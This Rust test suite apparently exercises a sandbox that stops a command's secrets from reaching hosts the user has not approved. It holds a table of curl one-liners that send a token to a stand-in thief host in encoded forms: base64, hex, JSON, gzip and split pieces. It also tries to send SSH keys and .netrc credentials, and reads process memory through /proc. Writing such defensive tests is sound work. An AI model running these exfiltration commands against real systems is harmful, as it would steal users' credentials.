//! The user's own secrets on their way to strangers: of no vendor's shape, from
//! the environment and from files that the command cannot read; and that they go
//! where the user's configuration has them go.

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use outgate_harness::{Identity, Lab, Outcome, Sandbox, lab_tests};

use crate::{HOST, bash, confined, thief};

/// With what shells, URLs and JSON escape.
const VALUE: &str = "kV8pq2Lm/zR41x+Qw7\"Tz&9uYb3";
/// Without.
const PLAIN: &str = "nB5tW9rLx2Kd7QvZ4mJc8Hs3";

/// What a thief's script does with `$T`.
const WAYS: &[(&str, &str)] = &[
    ("field", "curl -sS -H \"x: $T\" $URL/"),
    ("user agent", "curl -sS -A \"a $T b\" $URL/"),
    ("content", "curl -sS --data-binary \"t=$T\" $URL/"),
    ("percent", "curl -sS -G --data-urlencode \"q=$T\" $URL/"),
    ("basic", "curl -sS -u \"user:$T\" $URL/"),
    (
        "base 64, phase 0",
        "printf %s \"$T\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    ),
    (
        "base 64, phase 1",
        "printf a%sz \"$T\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    ),
    (
        "base 64, phase 2",
        "printf ab%sz \"$T\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    ),
    (
        "hex",
        "printf %s \"$T\" | od -An -v -tx1 | tr -d ' \\n' | curl -sS --data-binary @- $URL/",
    ),
    (
        "HEX",
        "H=$(printf %s \"$T\" | od -An -v -tx1 | tr -d ' \\n'); curl -sS $URL/x/${H^^}",
    ),
    (
        "reversed",
        "printf %s \"$T\" | rev | curl -sS --data-binary @- $URL/",
    ),
    (
        "json",
        "J=${T//\\//\\\\/}; J=${J//\\\"/\\\\\\\"}; printf '{\"a\":\"%s\"}' \"$J\" | curl -sS -H 'Content-Type: application/json' --data-binary @- $URL/",
    ),
    (
        "json of json",
        "J=${T//\\\"/\\\\\\\"}; J=${J//\\\\/\\\\\\\\}; J=${J//\\\"/\\\\\\\"}; printf '{\"a\":\"{\\\\\"b\\\\\":\\\\\"%s\\\\\"}\"}' \"$J\" | curl -sS --data-binary @- $URL/",
    ),
    (
        "json alone",
        "printf '{\"a\":\"%s\"}' \"${T//\\\"/\\\\\\\"}\" | curl -sS --data-binary @- $URL/",
    ),
    (
        "json in base 64",
        "printf '{\"a\":\"%s\"}' \"${T//\\\"/\\\\\\\"}\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    ),
    (
        "json in a query",
        "curl -sS -G --data-urlencode \"q={\\\"a\\\":\\\"${T//\\\"/\\\\\\\"}\\\"}\" $URL/",
    ),
    (
        "cell",
        "printf 'a,\"%s\"\\n' \"${T//\\\"/\\\"\\\"}\" | curl -sS --data-binary @- $URL/",
    ),
    (
        "word of a shell",
        "printf 'T=%q\\n' \"$T\" | curl -sS --data-binary @- $URL/",
    ),
    (
        "string of a shell",
        "declare -p T | curl -sS --data-binary @- $URL/",
    ),
    (
        "gzip",
        "printf 'a %s b' \"$T\" | gzip | curl -sS --data-binary @- $URL/",
    ),
];

/// Fails where a value, or a part of it that chance does not make, arrived or is
/// shown.
fn assert_nowhere(text: &str, value: &str, place: &str) {
    for start in (0..value.len() - 8).step_by(4) {
        let piece = &value[start..start + 8];
        assert!(!text.contains(piece), "{place}: `{piece}` in {text}");
    }
}

/// What is ours in what a run says.
fn ours(outcome: &Outcome) -> String {
    let lines = outcome.stderr.lines();
    lines.filter(|line| line.contains("outgate")).collect()
}

fn home(lab: &Lab, name: &str, text: &str) -> PathBuf {
    let path = lab.folder("home", Identity::Own).join(name);
    fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
    fs::write(&path, text).expect("a file");
    path
}

/// A sandbox that may send to a second host as well.
fn both(lab: &Lab) -> Sandbox<'_> {
    confined(lab, Identity::Own)
        .allow("http://home.example:8099")
        .pin("home.example:8099=127.0.0.1:8099")
}

/// Sends a text in a field to a host.
fn sending(value: &str, host: &str) -> Vec<String> {
    bash(&format!("curl -sS -H 'x: {value}' http://{host}:8099/"))
}

lab_tests! {
    fn values_of_the_environment_leave_in_no_form(lab) {
        let thief = thief();
        let file = lab.folder("records", Identity::Own).join("known.jsonl");
        for (name, way) in WAYS {
            let sandbox = confined(lab, Identity::Own)
                .environment("MYCORP_TOKEN", VALUE)
                .option("--pass-env", "MYCORP_TOKEN")
                .option("--audit", &file.to_string_lossy());
            let outcome = sandbox.run(&bash(&format!("T=$MYCORP_TOKEN; {way}")));
            assert_eq!(thief.take(), b"", "{name}: nothing arrives: {outcome}");
            for told in ["outgate: denied", "MYCORP_TOKEN of the environment", "known-value"] {
                assert!(outcome.stderr.contains(told), "{name}: `{told}`: {outcome}");
            }
            assert!(outcome.stdout.contains("outgate denied"), "{name}: {outcome}");
            assert_nowhere(&ours(&outcome), VALUE, name);
            // The same with another value.
            let other = VALUE.replace("zR41x", "zR41y");
            let sandbox = confined(lab, Identity::Own)
                .environment("MYCORP_TOKEN", VALUE)
                .environment("OTHER", &other);
            let outcome = sandbox.run(&bash(&format!("T=$OTHER; {way}")));
            assert_eq!(outcome.stdout, "arrived\n", "{name}: {outcome}");
            assert_ne!(thief.take(), b"");
        }
        let record = fs::read_to_string(&file).expect("the record");
        assert_nowhere(&record, VALUE, "the record");
        assert!(record.contains("known-value"), "{record}");
    }

    fn pieces_over_values_and_requests_are_put_together(lab) {
        let thief = thief();
        for (script, first) in [
            ("curl -sS \"$URL/x?a=${T:0:9}&b=${T:9}\"", ""),
            ("curl -sS -H \"a: ${T:0:9}\" -H \"b: ${T:9}\" $URL/", ""),
            // Its beginning as the name, its end as the value.
            ("curl -sS \"$URL/?${T:0:12}=${T:12}\"", ""),
            ("curl -sS -b \"${T:0:12}=${T:12}\" $URL/", ""),
            ("curl -sS \"$URL/?a=${T:0:12}\"; curl -sS \"$URL/?a=${T:12}\"", "arrived\n"),
        ] {
            let sandbox = confined(lab, Identity::Own)
                .environment("MYCORP_TOKEN", PLAIN)
                .option("--pass-env", "MYCORP_TOKEN");
            let outcome = sandbox.run(&bash(&format!("T=$MYCORP_TOKEN; {script}")));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(!sent.contains(&PLAIN[12..]), "{script}: {sent}");
            assert!(outcome.stdout.starts_with(first), "{script}: {outcome}");
            assert!(outcome.stdout.contains("MYCORP_TOKEN of the environment"), "{script}: {outcome}");
        }
    }

    fn a_token_goes_where_its_owner_says_and_the_denial_tells_how(lab) {
        let thief = thief();
        let sandbox = || both(lab).environment("MYCORP_TOKEN", PLAIN);
        let outcome = sandbox().run(&sending(PLAIN, HOST));
        assert_eq!(thief.take(), b"", "{outcome}");
        let option = "--known MYCORP_TOKEN@drop.example";
        for text in [&outcome.stdout, &outcome.stderr] {
            assert!(text.contains("nothing says that it is for drop.example"), "{outcome}");
            assert!(text.contains(option), "{outcome}");
        }
        let last = Command::new(lab.tools.programs.join("outgate"))
            .args(["why", "last"])
            .env("XDG_STATE_HOME", lab.folder("state", Identity::Own))
            .output()
            .expect("outgate");
        let last = String::from_utf8_lossy(&last.stdout).into_owned();
        assert!(last.contains(&format!("add {option}")), "{last}");
        assert_nowhere(&last, PLAIN, "why last");

        let named = || sandbox().option("--known", "MYCORP_TOKEN@drop.example");
        let outcome = named().run(&sending(PLAIN, HOST));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
        assert_ne!(thief.take(), b"");
        let outcome = named().run(&sending(PLAIN, "home.example"));
        assert!(outcome.stderr.contains("it may go to drop.example, not to home.example"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        // Another value is not let by it.
        let other = named().environment("OTHER_TOKEN", VALUE).option("--pass-env", "OTHER_TOKEN");
        let outcome = other.run(&bash("curl -sS -H \"x: $OTHER_TOKEN\" $URL/"));
        assert!(outcome.stderr.contains("--known OTHER_TOKEN@drop.example"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");

        let file = lab.folder("given", Identity::Own).join("known.toml");
        let policy = "[[inspect.value]]\nname = \"MYCORP_TOKEN\"\nhosts = [\"drop.example\"]\n";
        fs::write(&file, policy).expect("a policy");
        let outcome = sandbox().option("-p", &file.to_string_lossy()).run(&sending(PLAIN, HOST));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        // What a project brings along does not let it.
        let project = lab.folder("work", Identity::Own).join(".outgate.toml");
        fs::write(&project, policy).expect("a policy");
        let outcome = sandbox().run(&sending(PLAIN, HOST));
        assert_ne!(outcome.stdout, "arrived\n", "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
    }

    fn a_value_in_a_path_is_shown_nowhere_also_where_it_may_go(lab) {
        let thief = thief();
        let file = lab.folder("records", Identity::Own).join("paths.jsonl");
        let sandbox = || {
            let work = lab.folder("work", Identity::Own);
            Sandbox::plain(lab, Identity::Own)
                .option("-P", "base")
                .option("-w", &work.to_string_lossy())
                .allow("http://drop.example:8099/a/**")
                .pin("drop.example:8099=127.0.0.1:8099")
                .environment("MYCORP_TOKEN", PLAIN)
                .option("--known", "MYCORP_TOKEN@drop.example")
                .option("--audit", &file.to_string_lossy())
        };
        // What was once said of a head or of a target holds when either is known.
        let script = "T=$MYCORP_TOKEN; for n in 1 1 2; do curl -sS -H \"x: $n\" $URL/a/$T/x; done; curl -sS --data-binary c $URL/a/$T/x; curl -sS $URL/a/plain";
        let outcome = sandbox().run(&bash(script));
        assert_eq!(outcome.stdout, "arrived\n".repeat(5), "{outcome}");
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert_eq!(sent.matches(PLAIN).count(), 4, "{sent}");
        assert_nowhere(&ours(&outcome), PLAIN, "a path that may be");
        let outcome = sandbox().run(&bash("for n in 1 2; do curl -sS $URL/other/$MYCORP_TOKEN; echo; done; curl -sS $URL/other/plain"));
        assert_eq!(thief.take(), b"", "{outcome}");
        assert!(outcome.stdout.contains("denied GET http://drop.example:8099: no rule"), "{outcome}");
        assert!(outcome.stderr.contains("denied GET http://drop.example:8099 (no rule"), "{outcome}");
        assert!(outcome.stderr.contains("-a 'GET http://drop.example:8099/other/plain'"), "{outcome}");
        assert_nowhere(&ours(&outcome), PLAIN, "a path that may not be");
        assert_nowhere(&outcome.stdout, PLAIN, "the answer");
        let record = fs::read_to_string(&file).expect("the record");
        assert_nowhere(&record, PLAIN, "the record");
        for shown in ["/a/plain", "/other/plain"] {
            assert!(record.contains(shown), "`{shown}`: {record}");
        }
        let requests = record.lines().filter(|line| line.contains("\"kind\":\"request\""));
        assert_eq!(requests.count(), 8, "{record}");
    }

    fn files_that_name_a_host_bind_their_values_to_it(lab) {
        let thief = thief();
        // Of the form of a vendor, for a server of one's own.
        let token = crate::Credential::new();
        let netrc = format!("machine home.example login me password {PLAIN}\n");
        let npmrc = format!("//home.example:8099/:_authToken={}\n", token.text());
        home(lab, ".netrc", &netrc);
        home(lab, ".npmrc", &npmrc);
        for (value, source) in [(PLAIN, "~/.netrc"), (token.text(), "~/.npmrc")] {
            let outcome = both(lab).run(&sending(value, "home.example"));
            assert_eq!(outcome.stdout, "arrived\n", "{source}: {outcome}");
            assert!(!outcome.stderr.contains("outgate"), "{source}: {outcome}");
            assert_ne!(thief.take(), b"");
            let basic = format!("curl -sS -u 'me:{value}' http://home.example:8099/");
            let outcome = both(lab).run(&bash(&basic));
            assert_eq!(outcome.stdout, "arrived\n", "{source}: {outcome}");
            assert_ne!(thief.take(), b"");
            let outcome = both(lab).run(&sending(value, HOST));
            assert_eq!(thief.take(), b"", "{outcome}");
            assert!(outcome.stderr.contains(source), "{outcome}");
            assert!(outcome.stderr.contains("home.example"), "{outcome}");
            assert!(outcome.stderr.contains(", not to drop.example"), "{outcome}");
            assert_nowhere(&ours(&outcome), value, source);
        }
        // The same words in a project bind to nobody.
        fs::remove_file(lab.folder("home", Identity::Own).join(".netrc")).expect("a file");
        let env = format!("DEPLOY_TOKEN={PLAIN} # home.example\n");
        fs::write(lab.folder("work", Identity::Own).join(".env"), env).expect("a file");
        let outcome = both(lab).run(&sending(PLAIN, "home.example"));
        assert!(outcome.stdout.contains(".env:DEPLOY_TOKEN"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
    }

    fn private_keys_leave_neither_whole_nor_in_pieces(lab) {
        let thief = thief();
        let path = home(lab, ".ssh/deploy", "");
        fs::remove_file(&path).expect("a file");
        let made = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(&path)
            .status();
        if !made.is_ok_and(|status| status.success()) {
            return outgate_harness::skip_here("no ssh-keygen");
        }
        let key = fs::read_to_string(&path).expect("the key");
        let lines: Vec<&str> = key.lines().filter(|line| !line.starts_with('-')).collect();
        let tail = lines[lines.len() - 2..].join("\n");
        let mut told = String::new();
        for text in [tail.as_str(), &tail.replace('\n', ""), &lines.join("\n"), "hex"] {
            let script = if text == "hex" {
                format!("printf %s '{}' | base64 -d | od -An -v -tx1 | tr -d ' \n' | curl -sS --data-binary @- $URL/", lines.concat())
            } else {
                format!("curl -sS --data-binary '{text}' $URL/")
            };
            // Whatever somebody lets go, a key is never sent.
            let sandbox = confined(lab, Identity::Own).option("--known", "~/.ssh/deploy@drop.example");
            let outcome = sandbox.run(&bash(&script));
            assert_eq!(thief.take(), b"", "{outcome}");
            told.push_str(&outcome.stderr);
            assert!(!outcome.stderr.contains("to allow"), "{outcome}");
        }
        // What its form does not show, its owner does.
        assert!(told.contains("~/.ssh/deploy (known-key)"), "{told}");
        assert!(told.contains("it is never sent"), "{told}");
        // The public half is anybody's.
        let public = fs::read_to_string(path.with_extension("pub")).expect("the public half");
        let script = format!("curl -sS --data-binary '{}' $URL/", public.trim());
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn what_is_no_secret_is_no_finding(lab) {
        let thief = thief();
        let rows = [
            ("USER", "administrator"), ("FEATURE_TOKEN", "true"), ("DB_PASSWORD", "localhost"),
            ("SESSION_KEY", "production"), ("AUTH_METHOD", "kV8pq2LmzR41xQw7"),
            ("API_KEY_FILE", "/etc/keys/service-account-7.json"), ("CACHE_KEY", "v1"),
            ("MYSQL_PASSWORD", "changeme-please"), ("BUILD_KEY", "1234567890"),
            ("PUBLIC_KEY", "kV8pq2LmzR41xQw7"), ("HOME_TOKEN", "http://user@x.example/a"),
        ];
        let mut sandbox = confined(lab, Identity::Own).option("--canaries", "off");
        for (name, value) in rows {
            sandbox = sandbox.environment(name, value);
        }
        let outcome = sandbox.run(&bash("env | curl -sS --data-binary @- $URL/"));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(rows.iter().all(|(_, value)| sent.contains(value)), "{sent}");
    }

    fn it_can_be_turned_off_and_widened_by_a_list(lab) {
        let thief = thief();
        let sandbox = || both(lab).environment("MYCORP_TOKEN", PLAIN);
        let outcome = sandbox().option("--known", "off").run(&sending(PLAIN, HOST));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let list = lab.folder("given", Identity::Own).join("secrets.txt");
        fs::write(&list, format!("# mine\n{VALUE} -> home.example\n")).expect("a list");
        let listed = || both(lab).option("--known-values", &list.to_string_lossy());
        let to = |host: &str| bash(&format!("cat '{}'; curl -sS -H 'x: {VALUE}' http://{host}:8099/", list.display()));
        let outcome = listed().run(&to("home.example"));
        assert_eq!(outcome.stdout, "arrived\n", "and the command cannot read it: {outcome}");
        assert_ne!(thief.take(), b"");
        let outcome = listed().run(&to(HOST));
        assert!(outcome.stderr.contains("secrets.txt:2 (known-value)"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        // What a project brings leaves the list its room.
        let project = listed().work();
        for name in [".env", ".env.local"] {
            let line = |number: usize| format!("TOKEN_{number}={number:03}-{}\n", "kV8pq2Lm-zR41x_".repeat(4));
            let lines: String = (0..250).map(line).collect();
            fs::write(project.join(name), lines).expect("a project");
        }
        let outcome = listed().run(&to(HOST));
        assert!(outcome.stderr.contains("secrets.txt:2 (known-value)"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        let text = [b"# mine\nwor\xe4d-77-plain-x\n".as_slice(), VALUE.as_bytes(), b"\n"].concat();
        fs::write(&list, text).expect("a list");
        let outcome = listed().run(&to("home.example"));
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert!(outcome.stderr.contains("secrets.txt: line 2 is not UTF-8"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        fs::write(&list, format!("{VALUE}\nshort\n")).expect("a list");
        let outcome = listed().run(&to("home.example"));
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert!(outcome.stderr.contains("secrets.txt:2: its value is shorter than"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        fs::remove_file(&list).expect("a list");
        let outcome = listed().run(&to("home.example"));
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert!(outcome.stderr.contains("the list of secrets"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
    }

    fn no_value_of_a_file_stays_in_memory(lab) {
        // Of accounts other than root nobody's memory can be read here.
        if outgate_harness::lab::is_mapped() {
            return outgate_harness::skip_here("memory of other processes cannot be read");
        }
        let docker = crate::Credential::new();
        home(lab, ".netrc", &format!("machine home.example login me password {PLAIN}\n"));
        let config = format!("{{\"auths\": {{\"home.example\": {{\"identitytoken\": \"{}\"}}}}}}", docker.text());
        home(lab, ".docker/config.json", &config);
        let thief = thief();
        let script = "curl -sS $URL/; read line; echo \"$line\"";
        let mut running = both(lab).with_input().start(&bash(script));
        running.wait_for("arrived\n");
        assert_ne!(thief.take(), b"");
        let mut seen = Vec::new();
        for name in ["outgate", "outgate-gateway"] {
            for process in named(name) {
                seen.push(name);
                let memory = memory(process);
                assert!(!memory.is_empty(), "{name} {process} can be read");
                for value in [PLAIN, docker.text()] {
                    for piece in [&value[..14], &value[value.len() - 14..]] {
                        let found = memory.windows(14).any(|part| part == piece.as_bytes());
                        assert!(!found, "`{piece}` in {name}");
                    }
                }
            }
        }
        running.say("done\n");
        running.finish();
        assert!(seen.contains(&"outgate") && seen.contains(&"outgate-gateway"), "{seen:?}");
    }
}

/// Processes of the laboratory that run a program of this name.
fn named(name: &str) -> Vec<u32> {
    let entries = fs::read_dir("/proc").expect("/proc");
    let pids = entries.filter_map(|entry| entry.ok()?.file_name().into_string().ok()?.parse().ok());
    let is_named = |pid: &u32| {
        let exe = fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
        exe.file_name().is_some_and(|own| own == name)
    };
    pids.filter(is_named).collect()
}

/// Everything in a process that it can write.
fn memory(process: u32) -> Vec<u8> {
    use std::os::unix::fs::FileExt;
    let maps = fs::read_to_string(format!("/proc/{process}/maps")).unwrap_or_default();
    let Ok(file) = fs::File::open(format!("/proc/{process}/mem")) else {
        return Vec::new();
    };
    let mut all = Vec::new();
    for line in maps.lines().filter(|line| line.contains(" rw")) {
        let span = line.split(' ').next().unwrap_or_default();
        let Some((start, end)) = span.split_once('-') else {
            continue;
        };
        let [start, end] =
            [start, end].map(|text| u64::from_str_radix(text, 16).expect("a number"));
        let mut part = vec![
            0;
            usize::try_from(end - start)
                .expect("a length")
                .min(64 << 20)
        ];
        if let Ok(count) = file.read_at(&mut part, start) {
            all.extend_from_slice(&part[..count]);
        }
    }
    all
}
